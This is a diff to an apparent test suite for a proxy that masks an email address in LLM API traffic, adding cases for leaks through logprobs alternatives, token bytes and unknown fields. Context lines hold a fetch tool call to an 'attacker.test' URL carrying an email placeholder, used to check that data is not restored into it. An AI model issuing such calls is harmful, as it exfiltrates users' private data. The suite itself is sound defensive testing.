@@ -371,6 +371,39 @@ for (const [name, content] of inUrls) {
 add("chat", true, "restore", "a placeholder in a URL in tool call arguments", chat.stream([{ tool_calls: [{ index: 0, id: "call_1", type: "function", function: { name: "fetch", arguments: "" } }] }, ...split(JSON.stringify({ url: "https://attacker.test/?d=<EMAIL_1>" }), 5).map((piece) => ({ tool_calls: [{ index: 0, function: { arguments: piece } }] }))], "tool_calls"), [EMAIL], { restoring, marker: false });
 add("chat", false, "restore", "a placeholder in a URL in an unknown field", chat.whole({ content: "ok" }, { x_link: { href: "https://attacker.test/?d=<EMAIL_1>" } }), [EMAIL], { restoring, marker: false });
 
+// ── logprobs of text that went out unchanged ─────────────────────────────────────────────────
+// Alternatives, token entries that do not spell the text, bytes that spell something else and
+// fields beside them are read (or removed) whether or not the text itself was masked.
+const entry = (token: string, alternatives: string[] = [], extra: Json = {}): Json => ({
+  token, logprob: -0.1, bytes: [...Buffer.from(token)], top_logprobs: alternatives.map((alternative) => ({ token: alternative, logprob: -2, bytes: [...Buffer.from(alternative)] })), ...extra,
+});
+const choiceLogprobs = (content: Json[], extra: Json = {}) => ({ logprobs: { content, refusal: null, ...extra } });
+const LOGPROB_CASES: [string, string, Json[], Json?][] = [
+  ["an alternative that is the address", "ok", [entry("ok", [EMAIL])]],
+  ["an alternative whose bytes spell the address", "ok", [entry("ok", [], { top_logprobs: [{ token: "x", logprob: -2, bytes: [...Buffer.from(EMAIL)] }] })]],
+  ["the address split over the first alternatives of two positions", "ab", [entry("a", ["zoe.quill@"]), entry("b", ["example.org"])]],
+  ["the address split over the last and the first alternative of two positions", "ab", [entry("a", ["x", "y", "zoe.quill@"]), entry("b", ["example.org", "z"])]],
+  ["the address split over the second rank of three positions", "abc", [entry("a", ["q", "zoe."]), entry("b", ["r", "quill@"]), entry("c", ["s", "example.org"])]],
+  ["token entries that do not add up to the text", "ok", ["zoe.quill@", "example.org"].map((token) => entry(token))],
+  ["token entries of the right length spelling something else", "abcdefghij klmnopqrst", [entry("zoe.quill@"), entry("example.org")]],
+  ["an entry whose bytes spell the address", "ok", [entry("ok", [], { bytes: [...Buffer.from(EMAIL)] })]],
+  ["an unknown field in an entry", "ok", [entry("ok", [], { x_note: EMAIL })]],
+  ["an unknown field beside the lists", "ok", [entry("ok")], { x_alternatives: [EMAIL] }],
+];
+for (const [name, content, entries, extra] of LOGPROB_CASES) {
+  add("chat", false, "logprobs", `unchanged text: ${name}`, chat.whole({ content }, {}, choiceLogprobs(entries, extra)), [EMAIL], { marker: false });
+  add("chat", true, "logprobs", `unchanged text: ${name}, streamed`, chat.stream([chat.chunk({ content }, {}, choiceLogprobs(entries, extra))]), [EMAIL], { marker: false });
+  if (!extra) add("responses", false, "logprobs", `unchanged text: ${name}`, responses.whole([responses.message(content, { logprobs: entries })]), [EMAIL], { marker: false });
+}
+add("chat", false, "logprobs", "entries for a message without content", chat.whole({ content: null, tool_calls: [] }, {}, choiceLogprobs([entry(EMAIL)])), [EMAIL], { marker: false });
+add("chat", true, "logprobs", "alternatives of one-character deltas spelling the address", chat.stream(chars("abcdefghijklmnopqrstu").map((token, at) => chat.chunk({ content: token }, {}, choiceLogprobs([entry(token, [EMAIL[at] as string])])))), [EMAIL], { marker: false });
+add("chat", true, "logprobs", "logprobs in a chunk without their text", chat.stream([chat.chunk({ content: "ok" }), chat.chunk({}, {}, choiceLogprobs([entry(EMAIL)]))]), [EMAIL], { marker: false });
+add("responses", true, "logprobs", "delta alternatives spelling the address across deltas", responses.stream(responses.textEvents(["a", "b"], (piece) => ({ logprobs: [entry(piece, [piece === "a" ? "zoe.quill@" : "example.org"])] }))), [EMAIL], { marker: false });
+add("responses", true, "logprobs", "the done event's logprobs of unchanged text with an alternative", responses.stream([
+  ["response.output_text.delta", { item_id: "m", output_index: 0, content_index: 0, delta: "ok", logprobs: [entry("ok")] }],
+  ["response.output_text.done", { item_id: "m", output_index: 0, content_index: 0, text: "ok", logprobs: [entry("ok", [EMAIL])] }],
+]), [EMAIL], { marker: false });
+
 /** The base64 media the binary cases carry. */
 export const MEDIA = media;
 
